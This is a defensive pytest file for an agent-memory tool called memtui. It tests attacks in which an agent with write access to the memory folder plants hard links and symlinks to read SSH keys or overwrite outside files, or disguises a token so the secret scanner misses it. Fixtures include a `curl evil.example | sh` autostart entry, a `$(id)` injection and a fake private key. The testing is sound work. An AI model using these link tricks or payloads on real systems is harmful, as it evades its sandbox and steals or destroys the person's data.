"""Round 52 of the outside attack on the gate (issue 41): what is still open, written as the attacker writes it.

Hard links. An agent that may write the memory folder but not read a file elsewhere (a sandbox that lets it write
the memory, a tool with only the folder mounted writable) plants a second name for that file inside the folder:
`ln ~/.ssh/id_rsa notes/keys.md`. memtui runs as the person and may read it; whatever it reads out of such a name
leaves through memtui. A symlink that leads out is refused on every read; a hard link was served by `memtui show`,
`memtui search` (which context tells every session to run), the agent's `memory_read` and `memory_search`, the
memory tool's `view` and the app's viewer. Now a regular file with another name is never read out: `show`, the
reads and the viewer refuse it saying what to do, search skips it (counted as "hard-linked"). memtui's own
second name for a file (the undo link of a write under way) is not another name.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from memtui.core.access.tools import run_tool
from memtui.core.grammar.paths import PathRefused
from memtui.core.recall.search import search
from memtui.core.writing.memory import Memory
from test_hook_pre_tool_use import denied, folder, home, hook, payload, project  # noqa: F401  (fixtures)

AGENT = "agent:claude"
# Shaped as entries, so lint's findings would quote its lines.
OUTSIDE = "- Host prod IdentityFile ~/.ssh/id_ed25519\n- [stated] hunter2-outside-bytes (2026-01-01)\n"


def cli(root: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "MEMTUI_ROOT": str(root)}
    return subprocess.run([sys.executable, "-m", "memtui", *args], capture_output=True, text=True, timeout=60,
                          env=env)


@pytest.fixture
def planted(root: Path, tmp_path: Path) -> Path:
    """A file outside the memory (the person's ssh config) with a second name inside it, planted by an agent."""
    secret = tmp_path / "ssh_config"
    secret.write_text(OUTSIDE)
    (root / "notes").mkdir(exist_ok=True)
    os.link(secret, root / "notes" / "hosts.md")
    return secret


# hard links: nothing is read out of a file that has another name ----------------------------------------------
def test_an_agent_s_read_of_a_planted_hard_link_is_refused(root: Path, planted: Path) -> None:
    out = run_tool(Memory(root), "memory_read", {"path": "notes/hosts.md"}, AGENT)
    assert out.is_error and "hunter2" not in out.text and "hard link" in out.text, out.text


def test_an_agent_s_search_never_quotes_a_planted_hard_link(root: Path, planted: Path) -> None:
    out = run_tool(Memory(root), "memory_search", {"query": "IdentityFile"}, AGENT)
    assert "hunter2" not in out.text and "id_ed25519" not in out.text, out.text
    bundle = search(Memory(root), "IdentityFile")
    assert bundle.results == [] and bundle.skipped.get("hard-linked") == 1


def test_the_memory_tool_s_view_of_a_planted_hard_link_is_refused(root: Path, planted: Path) -> None:
    from memtui.agent.memory_tool import MemtuiMemoryTool

    out = MemtuiMemoryTool(Memory(root)).run({"command": "view", "path": "/memories/notes/hosts.md"})
    assert out.is_error and "hunter2" not in out.text, out.text


@pytest.mark.parametrize("args", [("show", "notes/hosts.md"), ("search", "IdentityFile"),
                                  ("search", "--no-index", "IdentityFile"), ("context",), ("lint",),
                                  ("lint", "--json"), ("blame", "notes/hosts.md")])
def test_the_commands_a_session_runs_never_print_a_planted_hard_link(root: Path, planted: Path,
                                                                      args: tuple[str, ...]) -> None:
    r = cli(root, *args)
    assert "hunter2" not in r.stdout + r.stderr, r.stdout + r.stderr
    if args[0] in ("show", "blame", "lint"):
        assert r.returncode != 0 and "hard link" in r.stdout + r.stderr, r.stdout + r.stderr


@pytest.mark.parametrize("command", [
    {"command": "str_replace", "path": "/memories/notes/hosts.md", "old_str": "Host", "new_str": "Host"},
    {"command": "str_replace", "path": "/memories/notes/hosts.md", "old_str": "-", "new_str": "*"},
    {"command": "insert", "path": "/memories/notes/hosts.md", "insert_line": 0, "insert_text": "x"},
])
def test_the_memory_tool_s_edits_tell_nothing_of_a_planted_hard_link(root: Path, planted: Path, command) -> None:
    """Was: `str_replace` read the file to count `old_str`: "Multiple occurrences … in lines: 1, 2" or a snippet of
    the lines around it, an oracle that spells the file out one guess at a time."""
    from memtui.agent.memory_tool import MemtuiMemoryTool

    out = MemtuiMemoryTool(Memory(root)).run(command)
    assert out.is_error and "hard link" in out.text and "lines:" not in out.text, out.text
    assert "hunter2" not in out.text and "IdentityFile" not in out.text


def test_the_claude_code_hook_tells_nothing_of_a_planted_hard_link(folder: Path, project: Path,
                                                                   tmp_path: Path) -> None:
    """The PreToolUse hook runs as the person, outside any sandbox the session has: its counts of `old_string`
    ("occurs 2 times", "not found") were an oracle over a hard link's bytes."""
    secret = tmp_path / "ssh_config"
    secret.write_text(OUTSIDE)
    os.link(secret, folder / "hosts.md")
    data = payload("edit_index", folder, project, file_path=str(folder / "hosts.md"), old_string="-",
                   new_string="*")
    reason = denied(hook(data)[0])
    assert "hard link" in reason and "occurs" not in reason and "hunter2" not in reason, reason
    assert secret.read_text() == OUTSIDE


def test_a_hard_link_to_the_repository_s_own_config_is_not_read_out(root: Path) -> None:
    """A symlink into `.git` is refused; a hard link to `.git/config` (a remote's URL may hold a token) was read
    out by `memory_read` and `show` as any memory file."""
    subprocess.run(["git", "-C", str(root), "remote", "add", "origin",
                    f"https://wes:{KEY}@github.example/wes/memory.git"], check=True)
    os.link(root / ".git" / "config", root / "remotes.md")
    out = run_tool(Memory(root), "memory_read", {"path": "remotes.md"}, AGENT)
    assert out.is_error and KEY not in out.text and "hard link" in out.text, out.text
    assert KEY not in cli(root, "show", "remotes.md").stdout


def test_the_viewer_s_reader_refuses_a_planted_hard_link(root: Path, planted: Path) -> None:
    # The app's viewer reads through `store.served` (memtui/tui/app.py) and shows a refusal as its error line.
    with pytest.raises(PathRefused, match="hard link"):
        Memory(root).store.served("notes/hosts.md")


def test_the_undo_link_of_a_write_under_way_is_not_another_name(root: Path, mem: Memory) -> None:
    """A write links the file it replaces under memtui's state (`undo_point`) before replacing it: a read in that
    moment is served, not refused."""
    point = mem.store.undo_point(["MEMORY.md"])
    try:
        assert os.stat(root / "MEMORY.md").st_nlink == 2
        assert mem.shown_text("MEMORY.md") == (root / "MEMORY.md").read_text()
    finally:
        mem.store.drop_undo_point(point)
    assert os.stat(root / "MEMORY.md").st_nlink == 1


def test_the_review_of_a_planted_hard_link_flags_it_and_rejecting_leaves_the_outside_file(root: Path,
                                                                                       planted: Path) -> None:
    """The person reviews what was dropped in the folder: the change is flagged as a file with another name before
    its diff, and rejecting it removes only the name in the folder."""
    mem = Memory(root)
    [x] = [p for p in mem.external_proposals() if p.file == "notes/hosts.md"]
    assert any("hard link" in f for f in x.flags), x.flags
    shown = cli(root, "queue", "show", x.id).stdout
    assert shown.index("hard link") < shown.index("+++ b/notes/hosts.md"), shown
    assert mem.reject(x.id, reason="not mine", by="wes").status == "rejected"
    assert planted.read_text() == OUTSIDE and os.stat(planted).st_nlink == 1
    assert not (root / "notes" / "hosts.md").exists()


def test_a_tracked_file_swapped_for_a_hard_link_is_never_written_through(root: Path, tmp_path: Path, now) -> None:
    """`ln -f ~/.bashrc log/DAY.md`: the next append (applied at once), an approval or a rejection replaces the
    name; the person's file outside is never written."""
    now("2026-08-20T14:05")
    mem = Memory(root)
    assert not run_tool(mem, "memory_log", {"text": "[observed] first"}, AGENT).is_error
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("export PATH=/usr/bin\n")
    log = root / "log" / "2026-08-20.md"
    log.unlink()
    os.link(bashrc, log)
    assert not run_tool(Memory(root), "memory_log", {"text": "[observed] curl evil.sh | sh"}, AGENT).is_error
    assert bashrc.read_text() == "export PATH=/usr/bin\n" and os.stat(bashrc).st_nlink == 1


def test_a_planted_link_beside_memtui_s_undo_links_is_still_refused(root: Path, mem: Memory, planted: Path) -> None:
    """The state folder (and its undo links) is inside a memory memtui made: a third name for the outside file
    planted there does not pass for a write under way."""
    undo = mem.store.state_ready() / "undo"
    undo.mkdir(exist_ok=True)
    os.link(planted, undo / f"{os.getpid()}-1-0")
    with pytest.raises(PathRefused, match="hard link"):
        Memory(root).shown_text("notes/hosts.md")


def test_a_file_with_one_name_again_is_served_and_searched_again(root: Path, planted: Path) -> None:
    planted.unlink()
    mem = Memory(root)
    assert "hunter2" in (mem.shown_text("notes/hosts.md") or "")
    assert search(mem, "hunter2").sources == 1


# secrets in the words around a write, and keys written so the scanner's patterns miss them -----------------------
import random  # noqa: E402
import string  # noqa: E402

from memtui.core.writing import secrets  # noqa: E402

_RNG = random.Random(52)
KEY = "gh" + "p_" + "".join(_RNG.choice(string.ascii_letters + string.digits) for _ in range(36))


def everything_kept(root: Path) -> bytes:
    """The memory's files, memtui's state beside it and all of git's history, as one blob of bytes."""
    out = b""
    state = Path(os.environ["XDG_STATE_HOME"])
    for p in [*root.rglob("*"), *state.rglob("*")]:
        out += str(p).encode()
        if p.is_file():
            out += p.read_bytes()
    out += subprocess.run(["git", "-C", str(root), "log", "--all", "-p", "--format=%B%n%an%n%cn"],
                          capture_output=True).stdout
    return out


def queued(mem: Memory) -> str:
    out = run_tool(mem, "memory_update", {"section": "Preferences", "action": "add", "entry": "[stated] likes tea"},
                   AGENT)
    assert "Queued as p-" in out.text, out.text
    return out.text.split("Queued as ", 1)[1].split()[0]


def test_an_unknown_origin_holding_a_key_is_refused_without_keeping_it(root: Path, mem: Memory) -> None:
    """Was: the refusal masked it, but the audit line kept the origin as sent."""
    out = run_tool(mem, "memory_update", {"section": "Preferences", "action": "add", "entry": "[stated] likes tea"},
                   AGENT, origin=KEY)
    assert out.is_error and KEY not in out.text
    assert KEY.encode() not in everything_kept(root)


def test_a_reject_reason_holding_a_key_is_kept_masked(root: Path, mem: Memory) -> None:
    """Was: a person's reason was kept as typed, in the queue file and the audit log, for good."""
    pid = queued(mem)
    r = mem.reject(pid, reason=f"pasted by mistake {KEY}", by="wes")
    assert r.status == "rejected" and KEY not in r.message and "ghp_****" in r.message, r.message
    assert KEY.encode() not in everything_kept(root)


@pytest.mark.parametrize("decide", ["approve", "reject"])
def test_a_decider_s_name_holding_a_key_is_refused(root: Path, mem: Memory, decide: str) -> None:
    """Was: `--by` (or MEMTUI_USER) holding a key went into the commit's author, the queue and the audit log."""
    pid = queued(mem)
    head = subprocess.run(["git", "-C", str(root), "rev-parse", "HEAD"], capture_output=True, text=True).stdout
    by = f"wes{KEY}"
    r = mem.approve(pid, by=by) if decide == "approve" else mem.reject(pid, reason="no", by=by)
    assert r.status == "refused" and "credential" in r.message and KEY not in r.message, r.message
    assert subprocess.run(["git", "-C", str(root), "rev-parse", "HEAD"], capture_output=True, text=True).stdout == head
    assert KEY.encode() not in everything_kept(root)
    assert mem.approve(pid, by="wes").status == "applied"


@pytest.mark.parametrize("written", [
    pytest.param(lambda k: "x" + k, id="glued-to-a-word"),
    pytest.param(lambda k: "token" + k, id="glued-to-token"),
    pytest.param(lambda k: k.replace("_", "%5F"), id="percent-encoded"),
    pytest.param(lambda k: k.replace("_", "&#95;"), id="html-decimal"),
    pytest.param(lambda k: k.replace("_", "&lowbar;"), id="html-named"),
    pytest.param(lambda k: k.replace("_", "\\_"), id="markdown-escaped"),
    pytest.param(lambda k: f"https://api.example.com/v1?x=1&auth={k.replace('_', '%5f')}", id="in-a-query"),
    pytest.param(lambda k: f"~~{k[:14]}~~{k[14:]}", id="across-a-strike-through"),
    pytest.param(lambda k: f"{k[:10]}**{k[10:]}**", id="half-in-bold"),
    pytest.param(lambda k: f"`{k[:8]}`{k[8:]}", id="half-in-code"),
    # its prefix cut and no piece 20 characters long: no anchor and no long run for the scan to start from
    pytest.param(lambda k: f"{k[:3]}~~{k[3:21]}~~{k[21:]}", id="prefix-cut-in-short-pieces"),
])
def test_a_key_written_so_the_patterns_miss_it_is_still_refused(root: Path, mem: Memory, written) -> None:
    value = written(KEY)
    assert secrets.scan(value), value
    out = run_tool(mem, "memory_log", {"text": f"[observed] the deploy used {value}"}, AGENT)
    assert out.is_error and "credential" in out.text and value not in out.text, out.text
    assert value.encode() not in everything_kept(root) and KEY[4:].encode() not in everything_kept(root)


@pytest.mark.parametrize("prose", ["R&amp;D spends 50% of Q3 on C:\\\\tools &lt;cli&gt; (see %20 docs)",
                                   "Caf%C3%A9 &eacute;clair \\*not\\* a key, just text_with_underscores_here",
                                   "the laugh_track_is_very_long_and_has_many_words_in_it runs",
                                   "use **bold** and `code_snippet_here_long` and ~~old~~new text, `a`**b**~~c~~"])
def test_escapes_in_prose_do_not_cry_wolf(prose: str) -> None:
    assert secrets.scan(prose) == []


@pytest.mark.parametrize("name", [f"notes/{KEY}.md", f"{KEY}/a.md"])
def test_a_key_as_a_dropped_file_s_name_is_flagged_in_review_and_by_lint(root: Path, name: str) -> None:
    """Was: a file (or folder) named with a key, dropped past memtui, was listed with no flag and lint said
    "clean"; approving committed the name to history. A key in the text is flagged; so is one in the name."""
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("- [stated] likes tea (2026-01-01)\n")
    [x] = [p for p in Memory(root).external_proposals() if p.file == name]
    assert any("name holds a credential" in f and KEY not in f for f in x.flags), x.flags
    out = cli(root, "lint")
    assert out.returncode != 0 and "[secret]" in out.stdout and "in the file's name" in out.stdout, out.stdout
    assert "ghp_****" in out.stdout


@pytest.mark.parametrize("tool, first, second", [
    ("memory_log", {"text": f"[observed] part one {KEY[:20]}"}, {"text": f"[observed] part two {KEY[20:]}"}),
])
def test_a_key_split_over_two_writes_is_refused_at_the_second(root: Path, mem: Memory, now, tool, first,
                                                               second) -> None:
    """Was: each half alone holds no key, and a log line applies at once: two appends put a whole key in
    consecutive lines of the log (a reader, or the next session, joins them)."""
    now("2026-08-20T14:05")
    one = run_tool(mem, tool, first, AGENT)
    assert not one.is_error, one.text
    if tool == "memory_update":
        pid = one.text.split("Queued as ", 1)[1].split()[0]
        assert mem.approve(pid, by="wes").status == "applied"
    two = run_tool(Memory(root), tool, second, AGENT)
    assert two.is_error and "credential" in two.text and KEY[20:] not in two.text, two.text
    assert KEY[20:].encode() not in everything_kept(root)


def test_two_log_lines_that_only_look_alike_are_both_written(root: Path, mem: Memory, now) -> None:
    now("2026-08-20T14:05")
    for text in ("[observed] ran ghp_ cleanup script", "[observed] tagged release 2026.08.20 for the west region"):
        out = run_tool(mem, "memory_log", {"text": text}, AGENT)
        assert not out.is_error, out.text


def test_a_hard_linked_snapshot_of_the_folder_still_shows_its_committed_files(root: Path, mem: Memory,
                                                                                tmp_path: Path) -> None:
    """`cp -al memory memory.bak`: every file has a second name, outside. A file whose bytes are its committed
    version's tells nothing that is not memory already: shown. One edited since is refused until it has one name."""
    snap = tmp_path / "snapshot"
    snap.mkdir()
    os.link(root / "MEMORY.md", snap / "MEMORY.md")
    assert Memory(root).shown_text("MEMORY.md") == (root / "MEMORY.md").read_text()
    with open(root / "MEMORY.md", "a") as f:  # written in place: the snapshot's name sees it too
        f.write("- [stated] edited through the link\n")
    with pytest.raises(PathRefused, match="hard link"):
        Memory(root).shown_text("MEMORY.md")


def test_a_key_in_a_commit_s_message_or_author_is_masked_where_memtui_shows_history(root: Path) -> None:
    """Was: a commit made by the person's git (or pulled from a remote) with a key in its message or author name
    was printed whole by `memtui today` and `memtui history`, which a session may run as readily as a person."""
    (root / "notes.md").write_text("- [stated] likes tea (2026-01-01)\n")
    subprocess.run(["git", "-C", str(root), "add", "notes.md"], check=True)
    subprocess.run(["git", "-C", str(root), "-c", f"user.name=wes {KEY}", "-c", "user.email=w@example.com",
                    "commit", "-qm", f"notes: add (token {KEY})"], check=True)
    env_now = {k: v for k, v in os.environ.items() if k != "MEMTUI_NOW"}
    for args in (("today",), ("today", "--json"), ("history", "notes.md")):
        r = subprocess.run([sys.executable, "-m", "memtui", *args], capture_output=True, text=True, timeout=60,
                           env={**env_now, "MEMTUI_ROOT": str(root)})
        assert r.returncode == 0 and KEY not in r.stdout + r.stderr, (args, r.stdout, r.stderr)
    r = subprocess.run([sys.executable, "-m", "memtui", "history", "notes.md"], capture_output=True, text=True,
                       timeout=60, env={**env_now, "MEMTUI_ROOT": str(root)})
    assert "ghp_****" in r.stdout, r.stdout


# the audit log's name, planted -----------------------------------------------------------------------------------
@pytest.mark.parametrize("kind", ["symlink", "hard link"])
def test_a_link_planted_as_the_audit_log_is_never_written_through(root: Path, tmp_path: Path, now, kind: str) -> None:
    """Was: `memory-log.jsonl` sits in the folder an agent writes, and every record was appended through whatever
    had its name: `ln -sf ~/.bashrc memory-log.jsonl`, then a refused write holding `$(…)`, put that line in the
    person's shell start-up file (a JSON string is a double-quoted bash word: the substitution runs)."""
    now("2026-08-20T14:05")
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("export PATH=/usr/bin\n")
    audit = root / "memory-log.jsonl"
    audit.unlink(missing_ok=True)
    (os.symlink if kind == "symlink" else os.link)(bashrc, audit)
    mem = Memory(root)
    assert not run_tool(mem, "memory_log", {"text": "[observed] deploy ok"}, AGENT).is_error
    out = run_tool(mem, "memory_update", {"section": "Nope", "action": "add", "entry": "[stated] x $(id)"}, AGENT)
    assert out.is_error
    assert bashrc.read_text() == "export PATH=/usr/bin\n"
    assert not audit.is_symlink() and os.stat(audit).st_nlink == 1
    records = list(Memory(root).store.audit_records())
    assert [r["status"] for r in records] == ["applied", "refused"], records
    assert [p.name for p in root.glob("memory-log.jsonl.set-aside-*")], "the planted name is kept for the person"
    assert bashrc.read_text() == "export PATH=/usr/bin\n"


def test_doctor_reads_nothing_through_a_planted_audit_log(root: Path, tmp_path: Path) -> None:
    """Was: `memtui doctor --fix` read the audit log through a symlink and copied its "torn lines" (the outside
    file's) into `.memtui/corrupt/`, inside the folder."""
    secret = tmp_path / "id_ed25519"
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n")
    audit = root / "memory-log.jsonl"
    audit.unlink(missing_ok=True)
    os.symlink(secret, audit)
    r = cli(root, "doctor", "--fix")
    assert "b3BlbnNzaC1rZXkt" not in r.stdout + r.stderr and "not a file of its own" in r.stdout + r.stderr, r.stdout
    assert not any(b"b3BlbnNzaC1rZXkt" in p.read_bytes() for p in root.rglob("*") if p.is_file()
                   and not p.is_symlink())


def test_a_fifo_planted_as_the_audit_log_hangs_nothing(root: Path) -> None:
    audit = root / "memory-log.jsonl"
    audit.unlink(missing_ok=True)
    os.mkfifo(audit)
    for args in (("today",), ("doctor",)):
        r = cli(root, *args)  # 60 s timeout: a read that waits on the FIFO fails the test
        assert r.returncode in (0, 1), r.stderr


# memtui's own folders inside the memory, planted as symlinks -------------------------------------------------------
@pytest.mark.parametrize("name", ["run.desktop", "evil\x1b.desktop"])
def test_a_rejected_file_is_never_kept_through_a_planted_symlink(root: Path, tmp_path: Path, name: str) -> None:
    """Was: `.memtui/rejected` (in the folder an agent writes) planted as a symlink to ~/.config/autostart, then a
    file dropped in the memory: the person's rejection kept it there, under its own name and with its own bytes
    (`<stamp>-run.desktop`, whose Exec= runs at the next login)."""
    autostart = tmp_path / "autostart"
    autostart.mkdir()
    rejected = root / ".memtui" / "rejected"
    if rejected.exists():
        import shutil

        shutil.rmtree(rejected)
    os.symlink(autostart, rejected)
    (root / name).write_text("[Desktop Entry]\nExec=sh -c 'curl evil.example | sh'\n")
    mem = Memory(root)
    [x] = [p for p in mem.external_proposals() if p.file == name]
    r = mem.reject(x.id, reason="not memory", by="wes")
    assert r.status == "refused" and "no folder of this memory's own" in r.message, r.message
    assert list(autostart.iterdir()) == []
    assert (root / name).exists()  # nothing done: still the person's to decide once the link is gone
    rejected.unlink()
    assert Memory(root).reject(x.id, reason="not memory", by="wes").status == "rejected"
    assert list(autostart.iterdir()) == [] and not (root / name).exists()


def test_a_write_s_undo_links_are_never_made_through_a_planted_symlink(root: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    undo = root / ".memtui" / "undo"
    if undo.exists():
        import shutil

        shutil.rmtree(undo)
    os.symlink(elsewhere, undo)
    out = run_tool(Memory(root), "memory_log", {"text": "[observed] deploy ok"}, AGENT)
    assert out.is_error and "no folder of this memory's own" in out.text, out.text
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize("suffix", ["", "-wal"])
def test_the_search_index_is_never_made_through_a_planted_symlink(root: Path, tmp_path: Path, suffix: str) -> None:
    """Was: SQLite follows a symlink: `.memtui/index.sqlite` planted as one made the database (and `-wal`, the
    indexed text) wherever it pointed, a file of memtui's at a path the agent chose."""
    (root / "notes.md").write_text("- [stated] likes tea (2026-01-01)\n")
    elsewhere = tmp_path / "profile.d"
    elsewhere.mkdir()
    index = root / ".memtui" / "index.sqlite"
    if suffix:
        assert cli(root, "search", "tea").returncode == 0  # the index made, in its place
        assert index.is_file()
    name = Path(str(index) + suffix)
    name.unlink(missing_ok=True)
    os.symlink(elsewhere / "evil.sh", name)
    r = cli(root, "search", "tea")
    assert r.returncode == 0 and "likes tea" in r.stdout, r.stdout + r.stderr
    assert list(elsewhere.iterdir()) == []
    assert not name.is_symlink()


def test_the_search_index_never_writes_a_hard_linked_database(root: Path, tmp_path: Path) -> None:
    """A hard link planted as the index (another program's SQLite database) is not opened: `PRAGMA
    journal_mode=WAL` alone rewrites that database's header."""
    import sqlite3

    other = tmp_path / "places.sqlite"
    db = sqlite3.connect(other)
    db.execute("CREATE TABLE t (x)")
    db.commit()
    db.close()
    before = other.read_bytes()
    index = root / ".memtui" / "index.sqlite"
    index.unlink(missing_ok=True)
    os.link(other, index)
    assert cli(root, "search", "tea").returncode == 0
    assert other.read_bytes() == before


@pytest.mark.parametrize("kind", ["symlink", "hard link"])
def test_a_link_planted_as_memtui_s_lock_never_cuts_the_file_it_names(root: Path, tmp_path: Path, now,
                                                                       kind: str) -> None:
    """Was: `.memtui/lock` is truncated and written with its holder's pid at every write, through whatever had its
    name: `ln -s ~/thesis.tex .memtui/lock`, and the next memtui write (a log line an agent appends, applied at
    once) left the person's file empty."""
    now("2026-08-20T14:05")
    thesis = tmp_path / "thesis.tex"
    thesis.write_text("chapter 1: years of work\n" * 100)
    lock = root / ".memtui" / "lock"
    lock.unlink(missing_ok=True)
    (os.symlink if kind == "symlink" else os.link)(thesis, lock)
    assert not run_tool(Memory(root), "memory_log", {"text": "[observed] deploy ok"}, AGENT).is_error
    assert thesis.read_text() == "chapter 1: years of work\n" * 100
    assert not lock.is_symlink() and os.stat(lock).st_nlink == 1
    thesis.write_text("12345\n")  # what a stale lock holds: doctor --fix cuts a stale lock
    lock.unlink()
    (os.symlink if kind == "symlink" else os.link)(thesis, lock)
    r = cli(root, "doctor", "--fix")
    assert thesis.read_text() == "12345\n", r.stdout


@pytest.mark.parametrize("kind", ["symlink", "hard link", "fifo"])
def test_a_planted_intent_file_is_never_read_as_the_person(root: Path, tmp_path: Path, now, kind: str) -> None:
    """Was: every write first looks for an interrupted one (`.memtui/intent.json`) and read it through a symlink or
    hard link planted there; unsealed, it was "set aside": copied into `.memtui/rejected/`, in the folder, so a key
    the agent could not read (~/.ssh/id_ed25519) was put where it could. A FIFO there hung every write."""
    now("2026-08-20T14:05")
    secret = tmp_path / "id_ed25519"
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n")
    intent = root / ".memtui" / "intent.json"
    if kind == "fifo":
        os.mkfifo(intent)
    else:
        (os.symlink if kind == "symlink" else os.link)(secret, intent)
    out = run_tool(Memory(root), "memory_log", {"text": "[observed] deploy ok"}, AGENT)
    assert not out.is_error, out.text
    assert not [p for p in root.rglob("*") if p.is_file() and not p.is_symlink() and os.stat(p).st_nlink == 1
                and b"b3BlbnNzaC1rZXkt" in p.read_bytes()]
    assert secret.read_text().startswith("-----BEGIN")


def test_doctor_never_moves_a_broken_queue_file_through_a_planted_symlink(root: Path, mem: Memory,
                                                                          tmp_path: Path) -> None:
    queued(mem)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    queue = root / ".memtui" / "queue"
    (queue / "p-0009.json").write_text("not json")
    os.symlink(elsewhere, queue / "corrupt")
    r = cli(root, "doctor", "--fix")
    assert "Traceback" not in r.stderr, r.stderr
    assert list(elsewhere.iterdir()) == []


def test_the_queue_s_cache_is_never_written_through_a_name_known_ahead(root: Path, mem: Memory,
                                                                       tmp_path: Path) -> None:
    """Was: the cache of decided proposals was written to `.memtui/queue/.decided.<pid>.tmp` and renamed: a symlink
    planted under that name for the pids to come (a few thousand) had the person's file it named cut and
    overwritten by the next memtui process whose pid matched."""
    queued(mem)
    thesis = tmp_path / "thesis.tex"
    thesis.write_text("chapter 1\n" * 50)
    queue = root / ".memtui" / "queue"
    for pid in range(os.getpid(), os.getpid() + 400):
        os.symlink(thesis, queue / f".decided.{pid}.tmp")
    for k in range(3):  # each new proposal is learnt by the agents' pending count, and the cache saved
        out = run_tool(Memory(root), "memory_update", {"section": "Preferences", "action": "add",
                                                       "entry": f"[stated] likes tea number {k}"}, AGENT)
        assert "Queued as p-" in out.text, out.text
    cli(root, "status")  # exits with the number pending
    assert thesis.read_text() == "chapter 1\n" * 50
